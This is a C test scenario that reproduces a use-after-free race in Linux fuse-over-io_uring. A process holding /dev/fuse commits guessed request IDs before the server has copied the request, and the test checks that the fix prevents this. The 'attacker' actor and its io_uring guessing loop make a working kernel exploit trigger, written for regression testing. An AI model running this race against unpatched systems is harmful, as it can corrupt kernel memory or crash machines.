// SPDX-License-Identifier: GPL-2.0
/*
 * A request of fuse is committed through io_uring before it has been copied to the server.
 *
 * 1efd3d474fc0 ("fuse-uring: make a fuse_req on SQE commit only findable after memcpy"), CVE-2026-64259.
 * Any process with /dev/fuse open may commit a request by its number, which it can guess. The request was on
 * the list in which it is looked for before it had been copied to the buffer of the server:
 *
 *     server                             client             attacker
 *     ------                             ------             --------
 *                                        stat(): queued
 *     task work of its ring
 *       fuse_uring_prepare_send()
 *         copy to the buffer: a fault
 *                                                           commits the request: it is
 *                                                           found, ended, and freed
 *         goes on with it
 *
 * The buffer is not in memory yet, so the copy can be held at its fault.
 *
 *     BUG: KASAN: slab-use-after-free in _raw_spin_lock+0x96/0xe0
 *     BUG: failure at fs/fuse/dev.c:1053/fuse_copy_fill()!
 */
#define _GNU_SOURCE
#include "attributes.h"
#include "device.h"
#include "scenario.h"
#include "uring.h"

#include <errno.h>
#include <fcntl.h>
#include <linux/fuse.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/uio.h>
#include <unistd.h>

/* What linux/fuse.h has since 7.42. */
#define OVER_URING (1UL << 41)
#define REGISTER 1
#define COMMIT_AND_FETCH 2

struct uring_command {
	uint64_t flags, commit_id;
	uint16_t queue;
	uint8_t padding[6];
};

struct uring_header {
	char in_out[128], operation[128];
	uint64_t flags, commit_id;
	uint32_t payload_size, padding;
	uint64_t reserved;
};

#define PAYLOAD (1 << 20)
#define GUESSES 8

static int fuse, client_error, answer;
static uint64_t last; /* number of a request */
static struct uring_header *header;
static char *payload;
static unsigned int nr_found;

static void answer_init(void)
{
	static char request[FUSE_MIN_READ_BUFFER];
	const struct fuse_in_header *in = (void *)request;
	struct {
		struct fuse_out_header header;
		struct fuse_init_out init;
	} out = {
		.header.len = sizeof(out),
		.init = { .major = FUSE_KERNEL_VERSION,
			  .minor = 42,
			  .flags = FUSE_INIT_EXT,
			  .flags2 = OVER_URING >> 32,
			  .max_write = 4096,
			  .max_background = 16,
			  .congestion_threshold = 12 },
	};

	if (read(fuse, request, sizeof(request)) < 0 || in->opcode != FUSE_INIT)
		broken("the first request is not FUSE_INIT");
	out.header.unique = last = in->unique;
	if (write(fuse, &out, sizeof(out)) != sizeof(out))
		broken("cannot answer FUSE_INIT");
}

static void *unread_memory(size_t size)
{
	void *memory = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

	if (memory == MAP_FAILED)
		broken("no memory for the buffers");
	return memory;
}

static void setup(void)
{
	char options[64];

	put_text("/sys/module/fuse/parameters/enable_uring", "1");
	fuse = open_device("misc/fuse", O_RDWR);
	snprintf(options, sizeof(options), "fd=%d,rootmode=40000,user_id=0,group_id=0", fuse);
	mount_type("fuse", "/mnt", options);
	answer_init();
	header = unread_memory(sizeof(*header));
	payload = unread_memory(PAYLOAD);
	cannot_undo();
}

static struct io_uring_sqe *command_entry(struct io_uring *ring, unsigned int command,
					  uint64_t commit_id)
{
	struct io_uring_sqe *entry = next_entry(ring);
	struct uring_command *in = (void *)((char *)entry + 48); /* sqe->cmd */

	memset(entry, 0, 128);
	entry->opcode = IORING_OP_URING_CMD;
	entry->fd = fuse;
	entry->off = command;
	in->commit_id = commit_id;
	return entry;
}

static void server(void)
{
	struct iovec buffers[] = { { header, sizeof(*header) }, { payload, PAYLOAD } };
	struct fuse_out_header *out = (void *)header->in_out;
	struct io_uring_sqe *entry;
	struct io_uring ring;

	make_ring(&ring, 4, IORING_SETUP_SQE128);
	entry = command_entry(&ring, REGISTER, 0);
	entry->addr = (unsigned long)buffers;
	entry->len = 2;
	submit(&ring);
	answer = completion(&ring);
	if (answer)
		return;
	out->unique = ((struct fuse_in_header *)header->in_out)->unique;
	out->len = sizeof(*out);
	out->error = -ENOENT;
	header->payload_size = 0;
	command_entry(&ring, COMMIT_AND_FETCH, out->unique);
	submit(&ring);
}

static void client(void)
{
	struct stat unused;

	client_error = stat("/mnt/x", &unused) ? errno : 0;
}

static void attacker(void)
{
	struct io_uring ring;
	unsigned int i;

	make_ring(&ring, GUESSES, IORING_SETUP_SQE128);
	at_point("has_ring");
	for (i = 1; i <= GUESSES; i++)
		command_entry(&ring, COMMIT_AND_FETCH, last + i);
	submit(&ring);
	for (i = 0; i < GUESSES; i++)
		nr_found += completion(&ring) != -ENOENT;
}

static void check(void)
{
	outcome("stat", "%s", strerror(client_error));
	ok(!nr_found, "a request is not found before the server has it");
	ok(!answer && client_error == ENOENT, "the client gets the answer of the server");
}

const struct scenario scenario = {
	.setup = setup,
	.actors = { ACTOR(server), ACTOR(client), ACTOR(attacker) },
	.check = check,
};
